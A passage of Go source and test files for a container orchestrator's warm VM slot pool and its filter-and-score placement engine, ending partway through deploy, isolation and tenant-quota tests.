	big := spec("big", "acme", "acme/analytics:2.0.1", IsolationHard)
	big.Resources = Resources{CPUMilli: 1500, MemoryMB: 1024}
	w, err := c.Deploy("ops", big)
	if err != nil {
		t.Fatalf("deploy under warm pressure: %v", err)
	}
	if w.Strategy == "warm" {
		t.Fatal("mismatched shape should not have claimed a slot")
	}
	if got := c.WarmCounters(); got.Evicted == 0 {
		t.Fatalf("counters = %+v, want pressure evictions", got)
	}
	u := nodeUtil(t, c, "olt-01")
	if u.Used.CPUMilli > 2000 {
		t.Fatalf("node oversubscribed: %+v", u.Used)
	}
}

func TestWarmCordonFlushAndUncordonVisibility(t *testing.T) {
	c, _ := testCluster(t, warmSettings())
	first, err := c.Deploy("ops", spec("a", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Stop("a"); err != nil {
		t.Fatal(err)
	}

	// Cordoning the node flushes its parked slots and their reservations.
	if err := c.Cordon(first.Node); err != nil {
		t.Fatal(err)
	}
	if n := c.WarmSlotCount(); n != 0 {
		t.Fatalf("idle slots on cordoned node = %d, want 0", n)
	}
	if got := c.WarmCounters(); got.Flushed != 1 {
		t.Fatalf("counters = %+v, want 1 flush", got)
	}
	if u := nodeUtil(t, c, first.Node); u.Used.CPUMilli != 0 {
		t.Fatalf("cordoned node still holds reservation: %+v", u.Used)
	}

	// While cordoned, repeat deploys go cold to another node.
	other, err := c.Deploy("ops", spec("b", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if other.Strategy == "warm" || other.Node == first.Node {
		t.Fatalf("deploy after cordon = %+v, want cold placement elsewhere", other)
	}

	// After uncordon, slots park on the node again and are claimable.
	if err := c.Uncordon(first.Node); err != nil {
		t.Fatal(err)
	}
	if err := c.Stop("b"); err != nil {
		t.Fatal(err)
	}
	w, err := c.Deploy("ops", spec("c", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if w.Strategy != "warm" {
		t.Fatalf("post-uncordon repeat deploy strategy = %q, want warm", w.Strategy)
	}
}

func TestWarmNodeFailDiscardsSlots(t *testing.T) {
	c, _ := testCluster(t, warmSettings())
	first, err := c.Deploy("ops", spec("a", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Stop("a"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.FailNode(first.Node); err != nil {
		t.Fatal(err)
	}
	if n := c.WarmSlotCount(); n != 0 {
		t.Fatalf("idle slots after node failure = %d, want 0", n)
	}
	// The dead node's slots are gone for good: a repeat deploy goes cold.
	w, err := c.Deploy("ops", spec("b", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if w.Strategy == "warm" {
		t.Fatal("claimed a slot from a failed node")
	}
}

func TestWarmStateImportStartsCold(t *testing.T) {
	c, reg := testCluster(t, warmSettings())
	if _, err := c.Deploy("ops", spec("a", "acme", "acme/analytics:2.0.1", IsolationHard)); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Deploy("ops", spec("b", "acme", "acme/analytics:2.0.1", IsolationHard)); err != nil {
		t.Fatal(err)
	}
	if err := c.Stop("a"); err != nil {
		t.Fatal(err)
	}
	if c.WarmSlotCount() != 1 {
		t.Fatal("expected one parked slot before export")
	}

	// Kill-restart: rebuild a cluster from the exported control-plane
	// state. Warm slots are deliberately not part of ClusterState, and
	// recovered node usage must not include the dead pool's reservations.
	st := c.ExportState()
	c2 := NewCluster("edge", reg, warmSettings())
	c2.ImportState(st, func(ref string) *container.Image {
		img, err := reg.Pull(ref)
		if err != nil {
			return nil
		}
		return img
	})
	if n := c2.WarmSlotCount(); n != 0 {
		t.Fatalf("recovered cluster has %d warm slots, want 0 (pool restarts cold)", n)
	}
	if got := c2.WarmCounters(); got.Hits != 0 || got.Misses != 0 || got.Evicted != 0 || got.Flushed != 0 {
		t.Fatalf("recovered counters = %+v, want zero", got)
	}
	// The surviving workload b is intact; the first repeat deploy after
	// recovery is a miss (cold), then the pool works again.
	w, err := c2.Deploy("ops", spec("c", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if w.Strategy == "warm" {
		t.Fatal("claim after cold restart — warm slots leaked through recovery")
	}
	if err := c2.Stop("c"); err != nil {
		t.Fatal(err)
	}
	w, err = c2.Deploy("ops", spec("d", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if w.Strategy != "warm" {
		t.Fatalf("post-recovery repeat deploy strategy = %q, want warm", w.Strategy)
	}
}

// TestWarmClaimRacingEviction churns deploy/stop cycles (parks racing
// claims) against concurrent full-pool flushes and cordon flips. Run
// under -race this pins the claim/evict locking; the final accounting
// check pins that every reservation was settled by exactly one owner.
func TestWarmClaimRacingEviction(t *testing.T) {
	c, _ := testCluster(t, warmSettings())
	const workers = 4
	const rounds = 50
	var wg sync.WaitGroup
	for g := 0; g < workers; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < rounds; i++ {
				name := fmt.Sprintf("wl-%d-%d", g, i)
				_, err := c.Deploy("ops", spec(name, "acme", "acme/analytics:2.0.1", IsolationHard))
				if err != nil {
					var cap *CapacityError
					if errors.As(err, &cap) {
						continue // parked slots can transiently hold the capacity
					}
					t.Errorf("deploy %s: %v", name, err)
					return
				}
				if err := c.Stop(name); err != nil {
					t.Errorf("stop %s: %v", name, err)
					return
				}
			}
		}(g)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < rounds; i++ {
			c.FlushWarmSlots("close")
			if i%10 == 5 {
				_ = c.Cordon("olt-01")
				_ = c.Uncordon("olt-01")
			}
		}
	}()
	wg.Wait()

	c.FlushWarmSlots("close")
	if n := c.WarmSlotCount(); n != 0 {
		t.Fatalf("idle slots after final flush = %d, want 0", n)
	}
	for _, u := range c.Utilization() {
		if u.Used.CPUMilli != 0 || u.Used.MemoryMB != 0 {
			t.Fatalf("node %s leaked capacity: %+v", u.Node, u.Used)
		}
	}
	if use := c.TenantUsage("acme"); use.CPUMilli != 0 {
		t.Fatalf("tenant quota leaked: %+v", use)
	}
}

// TestWarmDrainRacingClaims drains nodes while deploy/stop churn runs:
// the drain must flush parked slots before its migration accounting, and
// concurrent claims must either win a slot or go cold — never revive a
// VM on the draining node after its cordon.
func TestWarmDrainRacingClaims(t *testing.T) {
	c, _ := testCluster(t, warmSettings())
	const workers = 4
	const rounds = 40
	var wg sync.WaitGroup
	for g := 0; g < workers; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < rounds; i++ {
				name := fmt.Sprintf("wl-%d-%d", g, i)
				_, err := c.Deploy("ops", spec(name, "acme", "acme/analytics:2.0.1", IsolationHard))
				if err != nil {
					continue // capacity or cordon pressure mid-drain is expected
				}
				if err := c.Stop(name); err != nil {
					t.Errorf("stop %s: %v", name, err)
					return
				}
			}
		}(g)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 6; i++ {
			node := "olt-01"
			if i%2 == 1 {
				node = "olt-02"
			}
			if _, err := c.Drain(context.Background(), node); err != nil &&
				!errors.Is(err, ErrNoCapacity) && !errors.Is(err, ErrNotFound) {
				t.Errorf("drain %s: %v", node, err)
				return
			}
			_ = c.Uncordon(node)
		}
	}()
	wg.Wait()

	// Quiesced: park whatever is still running, then verify cordoned and
	// drained nodes hold no idle slots and nothing double-booked a VM.
	for _, w := range c.Workloads() {
		if err := c.Stop(w.Spec.Name); err != nil {
			t.Fatalf("final stop %s: %v", w.Spec.Name, err)
		}
	}
	seen := map[string]bool{}
	for _, s := range c.WarmIdleSlots() {
		if seen[s.VMID] {
			t.Fatalf("VM %s parked twice", s.VMID)
		}
		seen[s.VMID] = true
	}
	c.FlushWarmSlots("close")
	for _, u := range c.Utilization() {
		if u.Used.CPUMilli != 0 || u.Used.MemoryMB != 0 {
			t.Fatalf("node %s leaked capacity after drain storm: %+v", u.Node, u.Used)
		}
	}
}
