package scheduler

// Resources is a CPU/memory demand or capacity. It lives in the
// scheduler package — the lowest layer of the placement stack — and is
// re-exported by the orchestrator as a type alias, so the two packages
// share one vocabulary without an import cycle.
type Resources struct {
	CPUMilli int `json:"cpuMilli"`
	MemoryMB int `json:"memoryMB"`
}

// Fits reports whether r fits into free.
func (r Resources) Fits(free Resources) bool {
	return r.CPUMilli <= free.CPUMilli && r.MemoryMB <= free.MemoryMB
}

// Add returns r + o componentwise.
func (r Resources) Add(o Resources) Resources {
	return Resources{CPUMilli: r.CPUMilli + o.CPUMilli, MemoryMB: r.MemoryMB + o.MemoryMB}
}

// Sub returns r - o componentwise.
func (r Resources) Sub(o Resources) Resources {
	return Resources{CPUMilli: r.CPUMilli - o.CPUMilli, MemoryMB: r.MemoryMB - o.MemoryMB}
}
