package scheduler

import (
	"strings"
	"testing"
)

func cand(name string, capMilli, usedMilli int) Candidate {
	return Candidate{
		Node:     name,
		Capacity: Resources{CPUMilli: capMilli, MemoryMB: capMilli},
		Used:     Resources{CPUMilli: usedMilli, MemoryMB: usedMilli},
	}
}

func req(strategy Strategy) Request {
	return Request{Workload: "w", Tenant: "acme",
		Demand: Resources{CPUMilli: 100, MemoryMB: 100}, Strategy: strategy}
}

func TestResolveStrategy(t *testing.T) {
	cases := []struct {
		per, def string
		want     Strategy
		wantErr  bool
	}{
		{"", "", StrategyBinpack, false},
		{"binpack", "", StrategyBinpack, false},
		{"spread", "", StrategySpread, false},
		{"", "spread", StrategySpread, false},
		{"binpack", "spread", StrategyBinpack, false}, // per-workload wins
		{"mystery", "", "", true},
		{"", "mystery", "", true},
	}
	for _, c := range cases {
		got, err := ResolveStrategy(c.per, c.def)
		if c.wantErr {
			if err == nil {
				t.Fatalf("ResolveStrategy(%q, %q): want error", c.per, c.def)
			}
			continue
		}
		if err != nil || got != c.want {
			t.Fatalf("ResolveStrategy(%q, %q) = %v, %v; want %v", c.per, c.def, got, err, c.want)
		}
	}
}

func TestBinpackPrefersUtilized(t *testing.T) {
	e := New()
	cands := []Candidate{cand("a", 1000, 100), cand("b", 1000, 700), cand("c", 1000, 400)}
	r := req(StrategyBinpack)
	d, ok := e.Select(&r, cands)
	if !ok || d.Node != "b" {
		t.Fatalf("binpack picked %+v, want b", d)
	}
}

func TestSpreadPrefersIdle(t *testing.T) {
	e := New()
	cands := []Candidate{cand("a", 1000, 100), cand("b", 1000, 700), cand("c", 1000, 400)}
	r := req(StrategySpread)
	d, ok := e.Select(&r, cands)
	if !ok || d.Node != "a" {
		t.Fatalf("spread picked %+v, want a", d)
	}
}

func TestStrategiesDivergeOnSameFleet(t *testing.T) {
	e := New()
	cands := []Candidate{cand("a", 1000, 500), cand("b", 1000, 0)}
	rb, rs := req(StrategyBinpack), req(StrategySpread)
	db, _ := e.Select(&rb, cands)
	ds, _ := e.Select(&rs, cands)
	if db.Node == ds.Node {
		t.Fatalf("binpack and spread agree on %s; want divergence", db.Node)
	}
}

func TestCapacityFilterVetoes(t *testing.T) {
	e := New()
	full := cand("full", 1000, 950)
	r := req(StrategyBinpack)
	if reason := e.Feasible(&r, &full); !strings.Contains(reason, "capacity") {
		t.Fatalf("reason = %q", reason)
	}
	// Memory alone can veto.
	tight := cand("tight", 1000, 0)
	tight.Used.MemoryMB = 950
	if reason := e.Feasible(&r, &tight); reason == "" {
		t.Fatal("memory-full candidate passed the capacity filter")
	}
	cands := []Candidate{full}
	if _, ok := e.Select(&r, cands); ok {
		t.Fatal("Select placed onto a full node")
	}
}

func TestCordonFilterVetoes(t *testing.T) {
	e := New()
	c := cand("m", 1000, 0)
	c.Cordoned = true
	r := req(StrategyBinpack)
	if reason := e.Feasible(&r, &c); reason != "node cordoned" {
		t.Fatalf("reason = %q", reason)
	}
}

func TestDeterministicTiebreakByOrder(t *testing.T) {
	e := New()
	// Identical candidates: the earlier (name-sorted by the caller) wins,
	// every time.
	cands := []Candidate{cand("olt-01", 1000, 0), cand("olt-02", 1000, 0), cand("olt-03", 1000, 0)}
	r := req(StrategyBinpack)
	for i := 0; i < 50; i++ {
		if d, ok := e.Select(&r, cands); !ok || d.Node != "olt-01" {
			t.Fatalf("round %d: picked %+v, want olt-01", i, d)
		}
	}
}

func TestSpreadAntiAffinityBreaksUtilizationTies(t *testing.T) {
	e := New()
	a, b := cand("a", 1000, 200), cand("b", 1000, 200)
	a.TenantWorkloads = 3 // tenant already stacked on a
	r := req(StrategySpread)
	d, ok := e.Select(&r, []Candidate{a, b})
	if !ok || d.Node != "b" {
		t.Fatalf("spread anti-affinity picked %+v, want b", d)
	}
}

func TestHardIsolationAvoidsSharedVMs(t *testing.T) {
	e := New()
	a, b := cand("a", 1000, 200), cand("b", 1000, 200)
	a.SharedVMs = 2
	r := req(StrategyBinpack)
	r.HardIsolation = true
	d, ok := e.Select(&r, []Candidate{a, b})
	if !ok || d.Node != "b" {
		t.Fatalf("hard isolation picked %+v, want b (no shared VMs)", d)
	}
	// Soft isolation is indifferent: equal scores, first wins.
	r.HardIsolation = false
	if d, _ := e.Select(&r, []Candidate{a, b}); d.Node != "a" {
		t.Fatalf("soft isolation picked %s, want a (tie, first wins)", d.Node)
	}
}

func TestExplainReportsEveryCandidate(t *testing.T) {
	e := New()
	cord := cand("c", 1000, 0)
	cord.Cordoned = true
	cands := []Candidate{cand("a", 1000, 100), cand("b", 1000, 999), cord}
	r := req(StrategyBinpack)
	scores := e.Explain(&r, cands)
	if len(scores) != 3 {
		t.Fatalf("Explain returned %d entries", len(scores))
	}
	if !scores[0].Feasible || scores[0].Score <= 0 {
		t.Fatalf("a should be feasible with a positive score: %+v", scores[0])
	}
	if scores[1].Feasible || scores[1].Reason == "" {
		t.Fatalf("b should be vetoed for capacity: %+v", scores[1])
	}
	if scores[2].Feasible || scores[2].Reason != "node cordoned" {
		t.Fatalf("c should be vetoed for cordon: %+v", scores[2])
	}
}

func TestPluggablePolicies(t *testing.T) {
	e := New()
	e.AddFilter(Filter{Name: "no-onyx", Fn: func(_ *Request, c *Candidate) string {
		if c.Node == "onyx" {
			return "banned"
		}
		return ""
	}})
	cands := []Candidate{cand("onyx", 1000, 900), cand("opal", 1000, 100)}
	r := req(StrategyBinpack)
	d, ok := e.Select(&r, cands)
	if !ok || d.Node != "opal" {
		t.Fatalf("custom filter ignored: %+v", d)
	}
}

// TestSelectZeroAllocs pins the engine's central perf property: a full
// filter -> score pass over a large fleet allocates nothing, so the
// deploy hot path scales O(nodes) with zero garbage. The satellite
// AllocsPerOp assertion also runs inside BenchmarkSchedule1kNodes.
func TestSelectZeroAllocs(t *testing.T) {
	e := New()
	cands := make([]Candidate, 1000)
	for i := range cands {
		cands[i] = cand(nodeName(i), 8000, (i*37)%6000)
		cands[i].TenantWorkloads = i % 3
		cands[i].SharedVMs = i % 2
	}
	for _, strategy := range []Strategy{StrategyBinpack, StrategySpread} {
		r := req(strategy)
		if allocs := testing.AllocsPerRun(100, func() {
			if _, ok := e.Select(&r, cands); !ok {
				t.Fatal("no feasible candidate")
			}
		}); allocs != 0 {
			t.Fatalf("%s Select allocates %.1f/op, want 0", strategy, allocs)
		}
	}
}

// nodeName is a deterministic fixture name without fmt (kept simple so
// test setup cost stays trivial).
func nodeName(i int) string {
	return "node-" + string(rune('a'+i%26)) + string(rune('a'+(i/26)%26)) + string(rune('a'+(i/676)%26))
}
