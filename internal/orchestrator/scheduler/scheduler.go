// Package scheduler is GENIO's placement engine: a two-phase
// filter -> score pipeline over candidate nodes with pluggable policies.
//
// Filtering removes infeasible candidates (no capacity, cordoned);
// scoring ranks the survivors under the request's strategy:
//
//	binpack  pack workloads onto the most-utilized feasible node, keeping
//	         the fleet dense and whole nodes free for large demands (the
//	         default — and the behaviour the pre-scheduler first-fit
//	         placement approximated).
//	spread   place onto the least-utilized feasible node, with a tenant
//	         anti-affinity bonus for nodes not already hosting the
//	         tenant — the HA posture: one node loss takes out as few of
//	         a tenant's workloads as possible.
//
// A security-posture scorer additionally steers hard-isolation
// workloads away from nodes running shared (soft-isolation) VMs,
// whatever the strategy.
//
// The engine is deliberately allocation-free on the decision path:
// Feasible, Score, and Select never allocate, so a scheduling pass over
// the cluster's cached candidate slice is O(nodes) with zero
// allocations — the property BenchmarkSchedule1kNodes pins. Explain is
// the allocating, human-facing variant that reports the per-candidate
// breakdown (audit trails, `genioctl nodes -top`).
//
// The engine knows nothing about clusters, VMs, or images: callers
// snapshot their node state into Candidate values and apply the
// decision themselves. That keeps the package pure (trivially testable,
// no locks) and lets every placement consumer — deploy, failover,
// drain — share one policy surface.
package scheduler

import "fmt"

// Strategy selects the scoring direction of the placement engine.
type Strategy string

// Built-in strategies.
const (
	// StrategyBinpack packs onto the most-utilized feasible node
	// (density: fewest nodes touched, large contiguous capacity kept
	// free). The cluster-wide default.
	StrategyBinpack Strategy = "binpack"
	// StrategySpread places onto the least-utilized feasible node and
	// prefers nodes not already hosting the tenant (HA: node loss takes
	// out as little of one tenant as possible).
	StrategySpread Strategy = "spread"
)

// UnknownStrategyError reports a strategy name outside the vocabulary.
// Policy carries the string that actually resolved (per-workload or
// cluster default) so callers blame the right knob without re-deriving
// the resolution order.
type UnknownStrategyError struct {
	Policy string
}

// Error names the offending policy and the accepted vocabulary.
func (e *UnknownStrategyError) Error() string {
	return fmt.Sprintf("scheduler: unknown placement strategy %q (want %s|%s)",
		e.Policy, StrategyBinpack, StrategySpread)
}

// ResolveStrategy resolves the effective strategy from a per-workload
// policy and a cluster default, either of which may be empty. Empty
// everywhere resolves to binpack. Unknown names are a typed
// *UnknownStrategyError — a typo'd policy must reject the deploy, not
// silently densify.
func ResolveStrategy(perWorkload, clusterDefault string) (Strategy, error) {
	pick := perWorkload
	if pick == "" {
		pick = clusterDefault
	}
	switch Strategy(pick) {
	case "", StrategyBinpack:
		return StrategyBinpack, nil
	case StrategySpread:
		return StrategySpread, nil
	default:
		return "", &UnknownStrategyError{Policy: pick}
	}
}

// Request is one placement demand, already resolved: the caller maps
// its workload spec (and cluster defaults) onto these fields.
type Request struct {
	Workload string
	Tenant   string
	Demand   Resources
	// HardIsolation marks a dedicated-VM workload; the security-posture
	// scorer steers it away from nodes running shared VMs.
	HardIsolation bool
	Strategy      Strategy
	// Exclude names one node that must never host this request —
	// a drain's own source, whatever its cordon flag says at the
	// instant of scheduling.
	Exclude string
}

// Candidate is one node's placement-relevant snapshot. Callers build it
// under whatever lock guards their node state; the engine only reads.
type Candidate struct {
	Node     string
	Capacity Resources
	Used     Resources
	// Cordoned nodes are unschedulable (lifecycle filter).
	Cordoned bool
	// TenantWorkloads counts the requesting tenant's workloads already
	// on the node (anti-affinity input).
	TenantWorkloads int
	// SharedVMs counts non-dedicated VMs on the node (security-posture
	// input: hardened isolation prefers nodes without shared VMs).
	SharedVMs int
}

// FilterFunc vetoes a candidate: "" passes, anything else is the
// human-readable reason the candidate is infeasible. Filters must not
// allocate on the pass path (return constant strings).
type FilterFunc func(req *Request, c *Candidate) string

// ScoreFunc rates a feasible candidate in [0, 1] (higher is better).
// Scorers must not allocate.
type ScoreFunc func(req *Request, c *Candidate) float64

// Filter is one named feasibility policy.
type Filter struct {
	Name string
	Fn   FilterFunc
}

// Scorer is one named, weighted ranking policy.
type Scorer struct {
	Name   string
	Weight float64
	Fn     ScoreFunc
}

// Engine is the filter -> score pipeline. Build one with New (stock
// policies) and extend it with AddFilter/AddScorer; the zero value is
// valid but admits everything everywhere with score 0.
//
// Engines are immutable after construction as far as the decision path
// is concerned: Feasible/Score/Select only read, so one engine may
// serve concurrent schedulers. Add* calls are not synchronized —
// finish plugging before scheduling.
type Engine struct {
	filters []Filter
	scorers []Scorer
}

// New returns an engine with the stock policy pipeline: capacity and
// cordon filters; strategy, tenant-anti-affinity, and security-posture
// scorers.
func New() *Engine {
	e := &Engine{}
	e.AddFilter(Filter{Name: "exclude", Fn: ExcludeFilter})
	e.AddFilter(Filter{Name: "capacity", Fn: CapacityFilter})
	e.AddFilter(Filter{Name: "cordon", Fn: CordonFilter})
	e.AddScorer(Scorer{Name: "strategy", Weight: 1, Fn: StrategyScore})
	e.AddScorer(Scorer{Name: "tenant-anti-affinity", Weight: 0.2, Fn: AntiAffinityScore})
	e.AddScorer(Scorer{Name: "security-posture", Weight: 0.2, Fn: SecurityPostureScore})
	return e
}

// AddFilter appends a feasibility policy.
func (e *Engine) AddFilter(f Filter) { e.filters = append(e.filters, f) }

// AddScorer appends a ranking policy.
func (e *Engine) AddScorer(s Scorer) { e.scorers = append(e.scorers, s) }

// Feasible runs the filter phase: "" means the candidate may host the
// request, anything else is the first filter's rejection reason.
func (e *Engine) Feasible(req *Request, c *Candidate) string {
	for i := range e.filters {
		if reason := e.filters[i].Fn(req, c); reason != "" {
			return reason
		}
	}
	return ""
}

// Score runs the scoring phase over a feasible candidate: the
// weight-normalized sum of every scorer, in [0, 1].
func (e *Engine) Score(req *Request, c *Candidate) float64 {
	var sum, weights float64
	for i := range e.scorers {
		s := &e.scorers[i]
		sum += s.Weight * s.Fn(req, c)
		weights += s.Weight
	}
	if weights == 0 {
		return 0
	}
	return sum / weights
}

// Decision is Select's verdict: the winning candidate's index in the
// caller's slice, its name, and its score.
type Decision struct {
	Index int
	Node  string
	Score float64
}

// Select runs the full pipeline over the candidates and returns the
// best feasible one. Ties break toward the earlier candidate, so a
// name-sorted slice decides ties deterministically by name. The
// boolean is false when no candidate is feasible. Select never
// allocates.
func (e *Engine) Select(req *Request, cands []Candidate) (Decision, bool) {
	best := Decision{Index: -1}
	for i := range cands {
		c := &cands[i]
		if e.Feasible(req, c) != "" {
			continue
		}
		if s := e.Score(req, c); best.Index < 0 || s > best.Score {
			best = Decision{Index: i, Node: c.Node, Score: s}
		}
	}
	return best, best.Index >= 0
}

// NodeScore is one candidate's outcome in an Explain breakdown.
type NodeScore struct {
	Node  string  `json:"node"`
	Score float64 `json:"score"`
	// Feasible is false when a filter vetoed the candidate; Reason
	// carries the veto.
	Feasible bool   `json:"feasible"`
	Reason   string `json:"reason,omitempty"`
}

// Explain runs the pipeline and reports every candidate's outcome —
// the allocating introspection surface behind failover audit scores
// and `genioctl nodes -top`.
func (e *Engine) Explain(req *Request, cands []Candidate) []NodeScore {
	out := make([]NodeScore, 0, len(cands))
	for i := range cands {
		c := &cands[i]
		if reason := e.Feasible(req, c); reason != "" {
			out = append(out, NodeScore{Node: c.Node, Reason: reason})
			continue
		}
		out = append(out, NodeScore{Node: c.Node, Feasible: true, Score: e.Score(req, c)})
	}
	return out
}

// --- Stock policies ---------------------------------------------------------

// ExcludeFilter vetoes the request's hard-excluded node (Request.
// Exclude) — a drain must never migrate a workload onto its own source,
// even if the source's cordon was lifted mid-drain.
func ExcludeFilter(req *Request, c *Candidate) string {
	if req.Exclude != "" && req.Exclude == c.Node {
		return "node excluded by request"
	}
	return ""
}

// CapacityFilter vetoes candidates whose free capacity cannot host the
// demand.
func CapacityFilter(req *Request, c *Candidate) string {
	if !req.Demand.Fits(c.Capacity.Sub(c.Used)) {
		return "insufficient capacity"
	}
	return ""
}

// CordonFilter vetoes cordoned candidates — the node-lifecycle taint:
// cordon marks a node unschedulable ahead of maintenance or drain.
func CordonFilter(req *Request, c *Candidate) string {
	if c.Cordoned {
		return "node cordoned"
	}
	return ""
}

// utilization is the candidate's post-placement utilization fraction:
// the max of the CPU and memory fractions once the demand lands, so a
// node tight on either axis reads as full.
func utilization(req *Request, c *Candidate) float64 {
	after := c.Used.Add(req.Demand)
	var cpu, mem float64
	if c.Capacity.CPUMilli > 0 {
		cpu = float64(after.CPUMilli) / float64(c.Capacity.CPUMilli)
	}
	if c.Capacity.MemoryMB > 0 {
		mem = float64(after.MemoryMB) / float64(c.Capacity.MemoryMB)
	}
	if cpu > mem {
		return cpu
	}
	return mem
}

// StrategyScore is the directional scorer: binpack rewards high
// post-placement utilization, spread rewards low.
func StrategyScore(req *Request, c *Candidate) float64 {
	u := utilization(req, c)
	if u > 1 {
		u = 1
	}
	if req.Strategy == StrategySpread {
		return 1 - u
	}
	return u
}

// AntiAffinityScore prefers nodes not already hosting the requesting
// tenant — but only under spread, where the point is that one node
// loss should take out as little of a tenant as possible. Under
// binpack it is neutral: density deliberately stacks a tenant.
func AntiAffinityScore(req *Request, c *Candidate) float64 {
	if req.Strategy != StrategySpread {
		return 1
	}
	return 1 / (1 + float64(c.TenantWorkloads))
}

// SecurityPostureScore steers hard-isolation workloads away from nodes
// running shared VMs: a dedicated-VM workload on a node with no soft
// tenancy has no co-resident VM to be attacked from (the PEACH-style
// isolation review's preference). Soft workloads are indifferent.
func SecurityPostureScore(req *Request, c *Candidate) float64 {
	if !req.HardIsolation {
		return 1
	}
	return 1 / (1 + float64(c.SharedVMs))
}
