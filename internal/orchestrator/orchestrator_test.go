package orchestrator

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"

	"genio/internal/container"
	"genio/internal/rbac"
)

func testCluster(t *testing.T, settings Settings) (*Cluster, *container.Registry) {
	t.Helper()
	reg := container.NewRegistry()
	for _, img := range []*container.Image{
		container.IoTGatewayImage(), container.AnalyticsImage(),
		container.MLInferenceImage(), container.CryptominerImage(),
	} {
		reg.Push(img, nil)
	}
	c := NewCluster("genio-edge", reg, settings)
	c.AddNode("olt-01", Resources{CPUMilli: 4000, MemoryMB: 8192})
	c.AddNode("olt-02", Resources{CPUMilli: 4000, MemoryMB: 8192})
	return c, reg
}

func spec(name, tenant, ref string, iso IsolationMode) WorkloadSpec {
	return WorkloadSpec{
		Name: name, Tenant: tenant, ImageRef: ref, Isolation: iso,
		Resources: Resources{CPUMilli: 500, MemoryMB: 512},
	}
}

func TestDeployAndStop(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	w, err := c.Deploy("ops", spec("gw", "acme", "acme/iot-gateway:1.4.2", IsolationSoft))
	if err != nil {
		t.Fatalf("Deploy: %v", err)
	}
	if w.Node == "" || w.VMID == "" {
		t.Fatalf("workload = %+v", w)
	}
	if _, ok := c.Workload("gw"); !ok {
		t.Fatal("workload not registered")
	}
	if err := c.Stop("gw"); err != nil {
		t.Fatalf("Stop: %v", err)
	}
	if _, ok := c.Workload("gw"); ok {
		t.Fatal("workload still present after Stop")
	}
	if err := c.Stop("gw"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("err = %v, want ErrNotFound", err)
	}
	if use := c.TenantUsage("acme"); use.CPUMilli != 0 || use.MemoryMB != 0 {
		t.Fatalf("usage after stop = %+v", use)
	}
}

func TestDuplicateNameRejected(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	if _, err := c.Deploy("ops", spec("gw", "acme", "acme/iot-gateway:1.4.2", IsolationSoft)); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Deploy("ops", spec("gw", "acme", "acme/analytics:2.0.1", IsolationSoft)); !errors.Is(err, ErrDuplicateName) {
		t.Fatalf("err = %v, want ErrDuplicateName", err)
	}
}

func TestHardIsolationDedicatedVM(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	w1, err := c.Deploy("ops", spec("a", "acme", "acme/analytics:2.0.1", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	w2, err := c.Deploy("ops", spec("b", "acme", "acme/iot-gateway:1.4.2", IsolationHard))
	if err != nil {
		t.Fatal(err)
	}
	if w1.VMID == w2.VMID {
		t.Fatal("hard isolation shared a VM")
	}
	for _, vm := range c.VMs() {
		if !vm.Dedicated {
			t.Fatalf("vm %s not dedicated", vm.ID)
		}
		if len(vm.Workloads) != 1 {
			t.Fatalf("vm %s hosts %d workloads", vm.ID, len(vm.Workloads))
		}
	}
}

func TestSoftIsolationSharesTenantVM(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	w1, err := c.Deploy("ops", spec("a", "acme", "acme/analytics:2.0.1", IsolationSoft))
	if err != nil {
		t.Fatal(err)
	}
	w2, err := c.Deploy("ops", spec("b", "acme", "acme/iot-gateway:1.4.2", IsolationSoft))
	if err != nil {
		t.Fatal(err)
	}
	if w1.Node == w2.Node && w1.VMID != w2.VMID {
		t.Fatal("same-tenant soft workloads on one node should share a VM")
	}
	// A different tenant never shares the VM.
	w3, err := c.Deploy("ops", spec("c", "rival", "acme/analytics:2.0.1", IsolationSoft))
	if err != nil {
		t.Fatal(err)
	}
	if w3.Node == w1.Node && w3.VMID == w1.VMID {
		t.Fatal("cross-tenant workloads shared a VM")
	}
	for vm, tenants := range c.SharedVMTenants() {
		if len(tenants) > 1 {
			t.Fatalf("vm %s hosts multiple tenants: %v", vm, tenants)
		}
	}
}

func TestSchedulingCapacity(t *testing.T) {
	reg := container.NewRegistry()
	reg.Push(container.AnalyticsImage(), nil)
	c := NewCluster("tiny", reg, Settings{})
	c.AddNode("n1", Resources{CPUMilli: 1000, MemoryMB: 1024})
	big := WorkloadSpec{Name: "big", Tenant: "t", ImageRef: "acme/analytics:2.0.1",
		Isolation: IsolationSoft, Resources: Resources{CPUMilli: 800, MemoryMB: 512}}
	if _, err := c.Deploy("ops", big); err != nil {
		t.Fatal(err)
	}
	second := big
	second.Name = "big2"
	if _, err := c.Deploy("ops", second); !errors.Is(err, ErrNoCapacity) {
		t.Fatalf("err = %v, want ErrNoCapacity", err)
	}
}

func TestTenantQuotaBlocksResourceAbuse(t *testing.T) {
	// T8: a malicious tenant tries to monopolize resources; quotas stop it.
	c, _ := testCluster(t, Settings{})
	c.SetQuota("greedy", Resources{CPUMilli: 1000, MemoryMB: 1024})
	if _, err := c.Deploy("ops", spec("g1", "greedy", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Deploy("ops", spec("g2", "greedy", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
